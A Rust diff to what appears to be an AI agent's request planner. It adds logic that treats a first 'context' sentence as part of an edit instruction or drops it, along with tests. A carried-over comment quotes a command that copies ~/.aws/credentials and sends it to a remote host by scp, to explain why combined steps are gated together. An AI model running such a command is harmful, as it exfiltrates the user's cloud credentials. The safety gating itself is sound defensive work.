@@ -116,6 +116,7 @@ pub fn plan(request: &str, router: &mut route::Router) -> Plan {
     } else {
         steps
     };
+    let steps = without_context(steps);
     // "cp ~/.aws/credentials c.txt && scp c.txt host:": steps harmless one by one
     // can be harmful together. The whole request is gated as it would be as one step.
     let mut steps = steps;
@@ -129,6 +130,45 @@ pub fn plan(request: &str, router: &mut route::Router) -> Plan {
         }
     }
     Plan { steps }
+}
+
+/// "We're cutting a release today. Please pull, run make release, and then push.": a
+/// first sentence that only says how things stand, which nothing placed, is the
+/// request's context, not a step. Before an edit it becomes part of the edit's
+/// instruction ("We got a bug report about the date picker. Fix the timezone handling
+/// in DatePicker.vue"); before any other step it is dropped. Context that says no,
+/// waits or hedges ("I'm not sure. pull, then push") is kept, and holds what it holds.
+fn without_context(mut steps: Vec<Step>) -> Vec<Step> {
+    static STANDS: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?i)^(?:(?:heads\s+up|fyi|btw|so|ok|okay|well)[,:]?\s+)?(?:i|i'm|i've|i'd|we|we're|we've|we'd|the|my|our|this|these|it's|there's|there\s+are|today|yesterday|everyone|everybody|someone|somebody)\s[^?!]*[^?!\s]\s*$")
+            .expect("the context pattern is a valid regex")
+    });
+    static ASKS_IN_IT: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?i):|\b(?:tell|explain|show|describe|teach|walk\s+me|let\s+me\s+know|help|please|pls|could|can|would|will\s+you|want\s+you|need\s+you|like\s+you)\b")
+            .expect("the asking pattern is a valid regex")
+    });
+    let context = steps.len() > 1
+        && steps[0].route.source == route::Source::Fallback
+        && steps[0].route.refused.is_none()
+        && matches!(steps[0].route.action, Action::Code { .. })
+        && STANDS.is_match(steps[0].text.trim())
+        // ("I'm new here, so bear with me: first tell me what a PR is" asks.)
+        && !ASKS_IN_IT.is_match(&steps[0].text)
+        && !route::says_no_or_waits(&steps[0].text)
+        && !rules::hedged(&steps[0].text)
+        && steps[1].route.source != route::Source::Fallback
+        && steps[1].judged.is_none();
+    if !context {
+        return steps;
+    }
+    // An edit is read with it: the context says what is wrong.
+    let said = steps.remove(0).text;
+    let said = said.trim_end_matches(['.', ' ']);
+    if let Action::Code { instruction, .. } = &mut steps[0].route.action {
+        *instruction = format!("{said}. {instruction}");
+        steps[0].text = format!("{said}. {}", steps[0].text);
+    }
+    steps
 }
 
 /// What earlier steps touched, for resolving "it" and "that".
@@ -1440,7 +1480,7 @@ static ABOUT_STEPS: LazyLock<Regex> = LazyLock::new(|| {
 /// asks: "I've been…", "We're about to demo", "The old fixtures are obsolete",
 /// "Heads up", "Morning!", "Long day".
 static STATEMENT: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?i)^(?:i|i'm|im|i've|ive|i'd|i'll|we|we're|we've|we'll|it|it's|its|the|this|that|that's|these|those|my|our|there|there's|heads\s+up|fyi|btw|thanks|thank\s+you|morning|good\s+morning|hey|hi|hello|sorry|ok|okay|so|quick\s+one|long\s+day|ugh|oops|well|note|context|background|ich|wir|je|nous|yo|nosotros|eu|nós|io|noi|hola|hallo|salut|bonjour|gracias|danke|merci|obrigado|grazie|el|la|der|die|das|le|les)\b")
+    Regex::new(r"(?i)^(?:(?:heads\s+up|fyi|btw|so|ok|okay|well)[,:]?\s+)?(?:i|i'm|im|i've|ive|i'd|i'll|we|we're|we've|we'll|it|it's|its|the|this|that|that's|these|those|my|our|there|there's|heads\s+up|fyi|btw|thanks|thank\s+you|morning|good\s+morning|hey|hi|hello|sorry|ok|okay|so|quick\s+one|long\s+day|ugh|oops|well|note|context|background|ich|wir|je|nous|yo|nosotros|eu|nós|io|noi|hola|hallo|salut|bonjour|gracias|danke|merci|obrigado|grazie|el|la|der|die|das|le|les)\b")
         .expect("the statement pattern is a valid regex")
 });
 
@@ -3057,6 +3097,46 @@ mod tests {
         assert_eq!(
             split("please do: 1) git status 2) show the log"),
             vec!["git status", "show the log"]
+        );
+    }
+
+    #[test]
+    fn a_first_sentence_that_only_says_how_things_stand_is_context_not_a_step() {
+        assert_eq!(
+            names_of(
+                "We're cutting a release today. Please pull, run make release, and then push."
+            ),
+            ["pull", "run", "push"]
+        );
+        assert_eq!(
+            names_of("The tests have been flaky all week. Please run pytest, then push my branch."),
+            ["run", "push"]
+        );
+        // An edit is read with it: the context says what is wrong.
+        let fix = plan_of(
+            "We got a bug report about the date picker. Please fix the timezone handling in src/DatePicker.vue, then run npm test",
+        );
+        let names: Vec<_> = fix.steps.iter().map(|s| s.route.action.name()).collect();
+        assert_eq!(names, ["edit", "run"]);
+        assert!(
+            fix.steps[0].text.contains("date picker"),
+            "{:?}",
+            fix.steps[0]
+        );
+        // Context that says no, waits or hedges is no mere context.
+        for kept in [
+            "I'm not sure this is ready. pull, then push",
+            "We should wait for Tom. pull, then push",
+        ] {
+            assert_ne!(names_of(kept), ["pull", "push"], "{kept}");
+        }
+        // A task named, then its command line in brackets.
+        assert_eq!(names_of("PULL THEN TEST (npm test)"), ["pull", "run"]);
+        assert_eq!(
+            plan_of("pull then test (npm test)").steps[1].route.action,
+            Action::Shell {
+                command: Some("npm test".into())
+            }
         );
     }
 
